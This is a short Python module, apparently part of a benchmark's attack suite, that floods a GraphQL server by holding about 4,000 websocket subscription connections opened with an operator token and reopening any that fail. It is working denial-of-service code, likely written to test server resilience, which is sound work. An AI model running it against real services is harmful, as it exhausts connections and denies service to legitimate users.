"""An operator's token opens four thousand sockets with a subscription each, and opens those anew that are closed."""

import asyncio
import contextlib

from bench.attacks.target import Target
from bench.sockets import Sockets, open_sockets

SOCKETS, BATCH = 4_000, 100
QUERY = "subscription { statusChanged { cursor at node { id } } }"


async def attack(target: Target) -> None:
    url = target.graphql.replace("http", "ws", 1)
    held: list[Sockets] = []
    while True:
        with contextlib.suppress(OSError, TimeoutError, ValueError):
            held.append(await open_sockets(url, BATCH, QUERY, token=target.token("operator")))
        if len(held) * BATCH >= SOCKETS:
            closed = [sockets for sockets in held if sockets.failures]
            held = [sockets for sockets in held if not sockets.failures]
            for sockets in closed:
                await sockets.close()
            if not closed:
                await asyncio.sleep(1)
